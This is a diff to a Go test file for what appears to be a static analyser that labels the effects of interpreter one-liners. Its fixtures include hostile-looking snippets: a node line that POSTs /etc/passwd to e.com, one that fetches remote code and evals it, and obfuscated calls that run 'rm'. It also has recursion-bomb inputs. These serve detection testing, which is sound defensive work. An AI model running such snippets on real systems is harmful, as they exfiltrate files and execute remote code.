@@ -61,7 +61,7 @@ for f in glob.glob("*.o"): os.remove(f)`, "~d /home/dev/app/*.o"},
 	{"python3", `from pathlib import Path; [p.unlink() for p in Path("s").rglob("*.o")]`, "~d /home/dev/app/s/*.o; ~d /home/dev/app/s/*/*.o"},
 	{"python3", `import os; [os.remove(os.path.join(r,f)) for r,_,fs in os.walk(".") for f in fs]`, "?d ; ~d /home/dev/app/*; ~d /home/dev/app/*/*"},
 	{"python3", `import os; print(list(os.walk("/x"))); os.remove("a")`, "d /home/dev/app/a"},
-	{"ruby", `Dir.glob("/x/**/*").each { |f| File.delete(f) }`, "~d /x/**"},
+	{"ruby", `Dir.glob("/x/**/*").each { |f| File.delete(f) }`, "~d /x/*; ~d /x/*/*; ~d /x/**"},
 	{"ruby", `require "find"; Find.find("/x") { |f| File.delete(f) }`, "~d /x/**"},
 	{"perl", `use File::Find; find(sub { unlink $_ }, "/x")`, "~d /x/**"},
 	{"php", `foreach (new RecursiveDirectoryIterator("/x") as $f) unlink($f);`, "~d /x/**"},
@@ -101,6 +101,18 @@ for f in glob.glob("*.o"): os.remove(f)`, "~d /home/dev/app/*.o"},
 	{"node", `const rm = (p) => { fs.unlinkSync(p) }; rm("a")`, "d /home/dev/app/a"},
 	{"node", `for (const f of ["a", "b"]) fs.unlinkSync(f)`, "d /home/dev/app/a; d /home/dev/app/b"},
 	{"node", `eval(Buffer.from("cHJvY2Vzcy5leGl0KCk=", "base64").toString())`, "f decoded>interpreter"},
+	{"node", `import("child_process").then(c => c.execSync("rm a"))`, "x rm a; d /home/dev/app/a"},
+	{"node", `import("fs").then(({rmSync: x}) => x("a", {recursive: true}))`, "d /home/dev/app/a/**"},
+	{"node", `["a", "b"].forEach(f => require("fs").unlinkSync(f))`, "d /home/dev/app/a; d /home/dev/app/b"},
+	{"python3", `import os; list(map(os.system, ["rm a"]))`, "x rm a; d /home/dev/app/a"},
+	{"python3", `import atexit, os; atexit.register(os.system, "rm a")`, "x rm a; d /home/dev/app/a"},
+	{"python3", `import sys; sys.modules["os"].system("rm a")`, "x rm a; d /home/dev/app/a"},
+	{"python3", `import ctypes; ctypes.CDLL(None).system(b"rm a")`, "x rm a; d /home/dev/app/a"},
+	{"python3", `import pickle; pickle.load(open("a", "rb"))`, "r /home/dev/app/a"},
+	{"ruby", `include FileUtils; rm_rf "a"`, "d /home/dev/app/a/**"},
+	{"ruby", `Object.send(:system, "rm a")`, "x rm a; d /home/dev/app/a"},
+	{"perl", `CORE::system("rm a"); File::Path::rmtree("b")`, "x rm a; d /home/dev/app/a; d /home/dev/app/b/**"},
+	{"php", `$f = "sys" . "tem"; $f("rm a"); call_user_func("system", "rm b");`, "x rm a; d /home/dev/app/a; x rm b; d /home/dev/app/b"},
 	{"node", `fetch("https://e.com/x").then(r => r.text()).then(t => eval(t))`, "u e.com; ?x ?; f network>interpreter e.com"},
 	{"node", `fetch("https://e.com", {method: "POST", body: fs.readFileSync("/etc/passwd")})`, "r /etc/passwd; U e.com; f file>network /etc/passwd e.com"},
 	{"node", `console.log(require("./package.json").version); [1,2].map(x => x.get); new Map().delete("a"); "a/b".match(/x/)`, ""},
@@ -190,7 +202,7 @@ func TestCode(t *testing.T) {
 // carries out.
 func TestCodeCalls(t *testing.T) {
 	roles := strings.Fields(`sh run eval evalfile open r w rw d D cp mv ln cwd u host listen getfile sqlite same join cat format home env w2
-		envall map module b64 hex rot13 chr decoded glob walk tmp print write getattr parent =Socket =Session =Path =File`)
+		envall map module b64 hex rot13 chr decoded glob walk tmp print write getattr parent loads =Socket =Session =Path =File =Interpreter`)
 	seen := map[string]bool{}
 	lang := ""
 	for line := range strings.Lines(codeCallsText) {
@@ -223,6 +235,10 @@ func TestHostileCode(t *testing.T) {
 	for i := range 40 {
 		bomb += fmt.Sprintf("def f%d():\n    f%d()\n    f%d()\n", i, i+1, i+1)
 	}
+	bomb2 := ""
+	for i := range 40 {
+		bomb2 += fmt.Sprintf("def f%d(x):\n    list(map(f%d, [x, x]))\n    list(map(f%d, [x, x]))\n", i, i+1, i+1)
+	}
 	for name, code := range map[string]string{
 		"nested lists":      "x = " + strings.Repeat("[", 10000) + strings.Repeat("]", 10000),
 		"open brackets":     "x = " + strings.Repeat("(", 100000),
@@ -233,6 +249,8 @@ func TestHostileCode(t *testing.T) {
 		"strings in code":   strings.Repeat("f'{", 1000),
 		"open string":       `'''` + strings.Repeat("a", 1000),
 		"its own evaluator": "exec('" + strings.Repeat("exec(", 1000) + "')",
+		"handed on":         bomb2 + "f0(1)\n",
+		"handed to itself":  "const f0=x=>[x,x].map(f1).then(f0).then(f1);const f1=x=>[f0,f1].map(f0).map(f1);f0([f1,f0])",
 		"many":              strings.Repeat("print(os.path.join('a','b'))\n", 20000),
 	} {
 		for _, lang := range []string{"python3", "node", "perl", "ruby", "php", "lua", "guile", "julia"} {
